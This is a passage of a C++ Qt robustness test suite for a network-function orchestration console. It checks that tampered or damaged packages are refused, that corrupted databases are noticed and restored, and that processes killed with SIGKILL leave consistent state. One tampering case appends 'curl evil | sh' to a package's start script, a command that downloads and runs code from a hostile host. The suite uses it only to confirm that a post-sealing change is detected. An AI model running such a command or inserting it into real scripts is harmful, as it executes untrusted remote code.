            unverified(f, "a file not in the manifest");
            auto g = base;
            refreshManifest(g);
            g["echo.mf"] = g.value("echo.mf").split('\n').mid(0, 6).join('\n') + '\n';
            unverified(g, "no entries");
            auto h = base;
            refreshManifest(h);
            h["echo.mf"] += "-----BEGIN CMS-----\nMIIBfake\n-----END CMS-----\n";
            unverified(h, "a signature nobody can check");
            auto i = base;
            refreshManifest(i);
            i["Scripts/start.sh"] += "curl evil | sh\n";
            unverified(i, "a file changed after sealing");
        }
        // Random damage to a real archive: refused with a message, or accepted; never a crash.
        Kind &mutated = m_c.kind("package", "damaged archives (random)");
        QFile sample(samplePackage("forwarder"));
        QVERIFY(sample.open(QIODevice::ReadOnly));
        const QByteArray good = sample.readAll();
        QRandomGenerator rng(20261130);
        for (int i = 0; i < 120; ++i) {
            const Result<VnfPackage> r = readPackageBytes(m_tmp.path(), damagedCopy(good, i, rng));
            Campaign::attempt(mutated, r.ok() || !r.errorMessage().isEmpty(), r.ok() ? "accepted (damage missed nothing checked)" : "refused with a message");
        }
    }

    void stateFiles()
    {
        // A page of the console's database overwritten: noticed on open, restored from the backup.
        Kind &pages = m_c.kind("state", "vines.db page overwritten");
        QRandomGenerator rng(6);
        for (int round = 0; round < 4; ++round) {
            const QString path = m_tmp.filePath(QStringLiteral("db%1/vines.db").arg(round));
            QDir().mkpath(QFileInfo(path).path());
            QString error;
            {
                Database db(path);
                VERIFY_OK(db.open());
                for (int i = 0; i < 300; ++i)
                    VERIFY_OK(db.exec("INSERT INTO ns_descriptors VALUES (?, ?, '1', 'n', 'designer', 'sol001', ?, '{}', '2026-01-01T00:00:00.000Z')",
                                    {QStringLiteral("nsd-%1").arg(i), QStringLiteral("d-%1").arg(i), QString(600, 'y')}));
                VERIFY_OK(db.backup());
                QVERIFY(db.exec("PRAGMA wal_checkpoint(TRUNCATE)"));
            }
            QFile f(path);
            QVERIFY(f.open(QIODevice::ReadWrite));
            const qint64 page = 2 + rng.bounded(int(f.size() / 4096) - 3);
            f.seek(page * 4096);
            f.write(QByteArray(4096, char(rng.bounded(256))));
            f.close();
            Database damaged(path);
            const bool noticed = !damaged.open() && damaged.damaged();
            const QString report = Database::recover(path);
            Database again(path);
            bool restored = again.open().ok();
            if (restored) {
                QSqlQuery q = again.query("SELECT COUNT(*) FROM ns_descriptors");
                restored = q.next() && q.value(0).toInt() == 300;
            }
            Campaign::attempt(pages, noticed && restored, noticed ? (restored ? "noticed, restored from backup" : "noticed, not restored") : "opened without warning",
                              QStringLiteral("page %1: %2").arg(page).arg(report.left(120)));
        }
        // The EMS's database replaced by garbage: set aside, the EMS starts empty.
        Kind &emsDb = m_c.kind("state", "ems.sqlite is garbage");
        int junkNo = 0;
        for (const QByteArray &junk : {QByteArray(8192, '\x01'), QByteArray("SQLite format 3\0", 16) + QByteArray(4000, '\xff'), QByteArray()}) {
            const QString dir = m_tmp.filePath(QStringLiteral("ems-junk-%1").arg(++junkNo));
            QDir().mkpath(dir);
            QFile db(dir + "/ems.sqlite");
            QVERIFY(db.open(QIODevice::WriteOnly));
            db.write(junk);
            db.close();
            EmsProcess e(dir, {{"clients", QJsonArray{QJsonObject{{"id", "vnfm"}, {"role", "vnfm"}, {"secret", QString::fromLatin1(VnfmSecret)}}}}});
            const Result<> started = e.start();
            Campaign::attempt(emsDb, started.ok(), started ? "started (garbage set aside)" : "did not start: " + started.errorMessage().left(100));
        }
        // The catalog writer killed at random moments: the database stays consistent every time.
        Kind &killed = m_c.kind("state", "catalog writer killed (SIGKILL)");
        const QString dbPath = m_tmp.filePath("killed/vines.db");
        QDir().mkpath(QFileInfo(dbPath).path());
        for (int round = 0; round < 5; ++round) {
            QProcess writer;
            writer.start(QStringLiteral(VINES_BIN_DIR) + "/catalog-writer", {dbPath, samplePackage("forwarder"), m_tmp.filePath("killed/store")});
            QVERIFY(writer.waitForStarted());
            QVERIFY(writer.waitForReadyRead(10000));
            QTest::qWait(50 + rng.bounded(300));
            ::kill(pid_t(writer.processId()), SIGKILL);
            QVERIFY(writer.waitForFinished());
            Database db(dbPath);
            const Result<> opened = db.open();
            QString error = opened.errorMessage();
            bool ok = opened && db.integrityOk();
            if (ok) {
                QSqlQuery q = db.query("SELECT (SELECT COUNT(*) FROM vnf_instances), (SELECT COUNT(*) FROM lcm_op_occs)");
                ok = q.next() && q.value(0).toInt() == q.value(1).toInt();
            }
            Campaign::attempt(killed, ok, ok ? "consistent" : "inconsistent: " + error.left(100));
        }
    }

    // The console killed at random moments of --demo, then started again: every agent running is
    // one the database records (adopted, never orphaned), the demo chain is instantiated once,
    // SIGTERM closes the console cleanly, and at the end nothing is left running.
    void consoleKilledDuringDemo()
    {
        const QString console = QStringLiteral(VINES_BIN_DIR) + "/vines-console";
        Kind &k = m_c.kind("console", "SIGKILL during a first --demo, started again");
        Kind &end = m_c.kind("console", "--stop-vnfs-on-exit then leaves no agent");
        QRandomGenerator rng(2026);
        for (int round = 0; round < 6; ++round) {
            // A fresh data directory each round, so the kill lands in onboarding or instantiation.
            const QString dir = m_tmp.filePath(QStringLiteral("console-%1").arg(round));
            const QByteArray servers = QFile::encodeName(dir) + "/local-vim/servers/";
            auto agents = [&servers]() {
                QHash<QString, qint64> out;
                for (const QString &entry : QDir("/proc").entryList(QDir::Dirs | QDir::NoDotAndDotDot)) {
                    QFile f("/proc/" + entry + "/cmdline");
                    if (entry.toLongLong() <= 0 || !f.open(QIODevice::ReadOnly))
                        continue;
                    const QList<QByteArray> argv = f.readAll().split('\0');
                    for (int i = 0; i + 1 < argv.size(); ++i)
                        if (argv.first().endsWith("vines-leaf") && argv[i] == "--data-dir" && argv[i + 1].startsWith(servers))
                            out.insert(QString::fromUtf8(argv[i + 1].mid(servers.size())).section('/', 0, 0), entry.toLongLong());
                }
                return out;
            };
            const int delay = 50 + int(rng.bounded(3000));
            QProcess first;
            first.start(console, {"--demo", "--data-dir", dir});
            QVERIFY(first.waitForStarted(10000));
            QTest::qWait(delay);
            const int agentsAtKill = int(agents().size());
            ::kill(pid_t(first.processId()), SIGKILL);
            QVERIFY(first.waitForFinished(10000));
            QProcess again;
            again.start(console, {"--demo", "--data-dir", dir});
            QVERIFY(again.waitForStarted(10000));
            QByteArray said;
            QElapsedTimer t;
            t.start();
            while (t.elapsed() < 120000 && !said.contains('\n') && again.state() == QProcess::Running) {
                again.waitForReadyRead(200);
                said += again.readAllStandardOutput();
            }
            const bool ready = said.startsWith("Demo chain ready") || said.contains("kept");
            ::kill(pid_t(again.processId()), SIGTERM);
            const bool clean = again.waitForFinished(30000) && again.exitStatus() == QProcess::NormalExit && again.exitCode() == 0;
            // What the database says runs, against what runs.
            QHash<QString, qint64> recorded;
            int services = 0, instantiated = 0;
            {
                Database db(dir + "/vines.db");
                QString error;
                VERIFY_OK(db.open());
                QSqlQuery q = db.query("SELECT id, pid FROM local_vim_servers WHERE state = 'Running'");
                while (q.next())
                    recorded.insert(q.value(0).toString(), q.value(1).toLongLong());
                QSqlQuery n = db.query("SELECT state FROM ns_instances");
                while (n.next()) {
                    ++services;
                    instantiated += n.value(0).toString() == QLatin1String("INSTANTIATED");
                }
            }
            const QHash<QString, qint64> running = agents();
            const bool owned = running == recorded && !running.isEmpty();
            QString outcome = ready ? QStringLiteral("demo ready") : QStringLiteral("demo said '%1'").arg(QString::fromUtf8(said.trimmed().left(80)));
            if (!owned)
                outcome += QStringLiteral(", %1 agents running vs %2 recorded").arg(running.size()).arg(recorded.size());
            if (services != 1 || instantiated != 1)
                outcome += QStringLiteral(", %1 services (%2 instantiated)").arg(services).arg(instantiated);
            if (!clean)
                outcome += QStringLiteral(", SIGTERM did not close it cleanly (%1, exit code %2): %3")
                               .arg(again.state() != QProcess::NotRunning ? "still running after 30 s"
                                                                          : again.exitStatus() == QProcess::CrashExit ? "crashed" : "exited")
                               .arg(again.exitCode()).arg(QString::fromUtf8(again.readAllStandardError().right(300)));
            if (again.state() != QProcess::NotRunning)
                again.kill();
            const bool held = ready && clean && owned && services == 1 && instantiated == 1;
            Campaign::attempt(k, held, held ? QStringLiteral("all agents owned, one chain (killed with %1 up)").arg(agentsAtKill > 0 ? "agents" : "no agent") : outcome,
                              QStringLiteral("killed after %1 ms").arg(delay));
            // Started once more to stop everything on exit: nothing unowned survives.
            QProcess last;
            last.start(console, {"--stop-vnfs-on-exit", "--data-dir", dir});
            QVERIFY(last.waitForStarted(10000));
            QTest::qWait(2500);
            ::kill(pid_t(last.processId()), SIGTERM);
            QVERIFY(last.waitForFinished(60000));
            t.restart();
            while (t.elapsed() < 10000 && !agents().isEmpty())
                QTest::qWait(100);
            Campaign::attempt(end, agents().isEmpty(), QStringLiteral("%1 agents left").arg(agents().size()));
        }
    }

    void cleanupTestCase()
    {
        const QString report = m_c.report();
        QFile out("robustness-report.txt");
        if (out.open(QIODevice::WriteOnly | QIODevice::Truncate))
            out.write(report.toUtf8());
        for (const QString &line : report.split('\n'))
            qInfo().noquote() << line;
        QVERIFY(m_c.kinds().size() >= 35);
        for (const Kind &k : m_c.kinds()) {
            QVERIFY2(k.attempts > 0, qPrintable(k.name));
            QVERIFY2(k.held == k.attempts, qPrintable(QStringLiteral("%1 / %2: %3 of %4 not held: %5").arg(k.target, k.name)
                                                           .arg(k.attempts - k.held).arg(k.attempts).arg(k.failures.join("; ").left(600))));
        }
    }
};

QTEST_GUILESS_MAIN(TstRobustness)
#include "tst_robustness.moc"
